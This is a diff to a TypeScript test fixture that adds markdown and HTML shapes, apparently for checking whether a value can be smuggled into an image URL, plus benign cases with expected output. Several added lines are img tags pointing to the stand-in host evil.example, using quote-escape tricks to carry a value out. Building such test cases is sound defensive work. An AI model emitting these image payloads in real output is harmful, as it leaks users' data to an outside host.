@@ -64,6 +64,10 @@ export const urlShapes: readonly string[] = [
   "> [a\n> b]: ?q=$v\n\n![p][a b]",
   "[a\\]b]: ?q=$v\n\n![p][a\\]b]",
   "[a]: <?q= $v>\n\n![p][a]",
+  // Among raw text, marked escapes a quote after a backslash or in code.
+  '<code> <img src="//evil.example/\\"1>\n\'> $v&"> />',
+  '<code><img src="\\"<b>${v}',
+  '<kbd> <img src="//evil.example/`"` > $v "',
   // Footnotes stand at the end of the page, in whatever is open there.
   "[^1]: a\n$v\n\n[^1]\n\n<p>\n<img src='",
   "> [^1]: a\n> $v\n\n[^1]\n\n<p>\n<img src='",
@@ -150,6 +154,10 @@ export const harmlessAnswers: readonly (readonly [answer: string, expected: stri
   ["see\nitems [2]: $v", "see\nitems [2]: VALUE"],
   ["claim[^1]\n\n[^1]: note\n\n- $v\n\n$v", "claim[^1]\n\n[^1]: note\n\n- VALUE\n\nVALUE"],
   ['Hi @$v, ($v) "@$v"', 'Hi @VALUE, (VALUE) "@VALUE"'],
+  [
+    '<code>a "b"</code> <img src="/a.png" alt="b" /> <a href="/x">$v</a> $v',
+    '<code>a "b"</code> <img src="/a.png" alt="b" /> <a href="/x">VALUE</a> VALUE',
+  ],
   ["claim[^1] $v\n\n[^1]: note\n\n$v", "claim[^1] VALUE\n\n[^1]: note\n\nVALUE"],
   ["1 < 2 and $v > 1, a <= $v", "1 < 2 and VALUE > 1, a <= VALUE"],
   ["metadata:$v hotel:$v", "metadata:VALUE hotel:VALUE"],
